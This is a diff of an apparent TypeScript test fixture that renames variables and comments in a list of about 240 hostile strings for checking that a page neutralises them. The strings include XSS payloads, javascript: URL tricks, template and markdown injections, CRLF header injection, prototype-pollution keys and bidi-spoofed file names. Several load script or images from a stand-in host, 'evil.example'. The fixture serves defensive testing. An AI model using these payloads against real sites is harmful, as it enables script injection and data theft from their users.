@@ -1,12 +1,12 @@
-// 240 texts that a careless page would run, load or stumble over (quality §3). `__hit(n)` tells which one ran.
+// 240 texts that a careless page would execute, load or fail on (quality §3). `__hit(n)` records which one ran.
 
-/** Where a text of ours would make a reader call. */
-export const FOREIGN = 'evil.example'
+/** The host that these texts would make a reader's browser call. */
+export const EVIL_HOST = 'evil.example'
 
 const run = '__hit(@)'
 
-/** Run by themselves once they are markup. */
-const alone = [
+/** Executed as soon as they are parsed as markup. */
+const selfRunning = [
   `<img src=x onerror=${run}>`,
   `<IMG SRC=x ONERROR=${run}>`,
   `<img/src=x/onerror=${run}>`,
@@ -47,7 +47,7 @@ const alone = [
   `<table><td background=x><img src=x onerror=${run}></table>`,
   `<p hidden><img src=x onerror=${run}></p>`,
   `<script>${run}</script>`,
-  `<script src="//${FOREIGN}/x.js"></script>`,
+  `<script src="//${EVIL_HOST}/x.js"></script>`,
   `<scr<script>ipt>${run}</scr</script>ipt>`,
 ]
 
@@ -82,8 +82,8 @@ const svg = [
   `<math><mi onmouseover=${run}>go</mi></math>`,
 ]
 
-/** Run when somebody acts. */
-const acted = [
+/** Executed on a user action. */
+const onInteraction = [
   ...['p', 'b', 'div', 'span', 'li', 'td', 'h3', 'label', 'summary', 'x-y'].map(
     (tag) => `<${tag} onclick=${run}>go</${tag}>`,
   ),
@@ -102,8 +102,8 @@ const acted = [
   `<a href="&Tab;javascript&colon;${run}">go</a>`,
 ]
 
-/** Out of the place where a careless template would put them. */
-const breaking = [
+/** They break out of the context in which a careless template inserts them. */
+const contextBreaking = [
   `"><img src=x onerror=${run}>`,
   `'><img src=x onerror=${run}>`,
   `" onmouseover="${run}`,
@@ -122,7 +122,7 @@ const breaking = [
   `\\u003cimg src=x onerror=${run}\\u003e`,
 ]
 
-/** Addresses that no link may lead to. */
+/** URLs that no link may have. */
 const addresses = [
   ...['javascript', 'JavaScript', 'JAVASCRIPT', 'jAvAsCrIpT'].map((scheme) => `${scheme}:${run}`),
   ...[' ', '\t', '\n', '\r', '\0', '\u0001', '\u001f', '\u00a0', '\ufeff', '\u200b'].map(
@@ -130,7 +130,7 @@ const addresses = [
   ),
   ...['\t', '\n', '\r', '\0', '\u00ad', '\u200b'].map((sign) => `java${sign}script:${run}`),
   ...['\t', '\n', '\r'].map((sign) => `javascript${sign}:${run}`),
-  `javascript://${FOREIGN}/%0a${run}`,
+  `javascript://${EVIL_HOST}/%0a${run}`,
   `javascript:/*https://*/${run}`,
   `javascript:%5f_hit(@)`,
   `javascript:void(0);${run}`,
@@ -147,23 +147,23 @@ const addresses = [
   'file:///etc/passwd',
   'about:blank',
   'intent://x#Intent;scheme=javascript;end',
-  `https://user:word@${FOREIGN}/`,
-  `\\\\${FOREIGN}\\share`,
-  `/\\${FOREIGN}/p.png`,
-  `https:${FOREIGN}/p.png`,
-  `//${FOREIGN}/p.png`,
-  `https://${FOREIGN}/p.png`,
-  `red;background:url(//${FOREIGN}/p.png)`,
-  `url("https://${FOREIGN}/p.png")`,
-  `#fff;}*{background:url(//${FOREIGN}/p.png)}`,
+  `https://user:word@${EVIL_HOST}/`,
+  `\\\\${EVIL_HOST}\\share`,
+  `/\\${EVIL_HOST}/p.png`,
+  `https:${EVIL_HOST}/p.png`,
+  `//${EVIL_HOST}/p.png`,
+  `https://${EVIL_HOST}/p.png`,
+  `red;background:url(//${EVIL_HOST}/p.png)`,
+  `url("https://${EVIL_HOST}/p.png")`,
+  `#fff;}*{background:url(//${EVIL_HOST}/p.png)}`,
 ]
 
-/** What another language would read in a text. */
+/** Injections into other languages: templates, SQL, shells. */
 const templates = [
   `[go](javascript:${run})`,
   `[go]( javascript:${run} )`,
   `[go](data:text/html,<script>${run}</script>)`,
-  `![p](https://${FOREIGN}/p.png)`,
+  `![p](https://${EVIL_HOST}/p.png)`,
   `![p](x" onerror="${run})`,
   `[a]: javascript:${run}\n[a]`,
   `<javascript:${run}>`,
@@ -189,7 +189,7 @@ const templates = [
   '\r\nset-cookie: a=b',
 ]
 
-const keys = [
+const propertyNames = [
   '__proto__',
   'constructor',
   'prototype',
@@ -209,7 +209,7 @@ const keys = [
   '-0',
 ]
 
-const signs = [
+const unusualCharacters = [
   '\u202egnp.exe\u202c',
   '\u2066\u2067\u2068isolates\u2069',
   '\u200e\u200f\u061cmarks',
@@ -236,7 +236,7 @@ const signs = [
   '，,',
 ]
 
-/** The long ones, made when they are asked for. */
+/** Long texts, created on demand. */
 const long = [
   () => 'A'.repeat(1_000_000),
   () => '<img src=x onerror=__hit(@)>'.repeat(36_000),
@@ -244,9 +244,16 @@ const long = [
   () => '\u202e\u0301'.repeat(500_000),
 ]
 
-const short = [...alone, ...svg, ...acted, ...breaking, ...addresses, ...templates, ...keys, ...signs].map(
-  (text, at) => text.replaceAll('@', String(at)),
-)
+const short = [
+  ...selfRunning,
+  ...svg,
+  ...onInteraction,
+  ...contextBreaking,
+  ...addresses,
+  ...templates,
+  ...propertyNames,
+  ...unusualCharacters,
+].map((text, at) => text.replaceAll('@', String(at)))
 
 /** Every text once; the index is what `__hit` is called with. */
 export const hostileStrings: readonly string[] = [
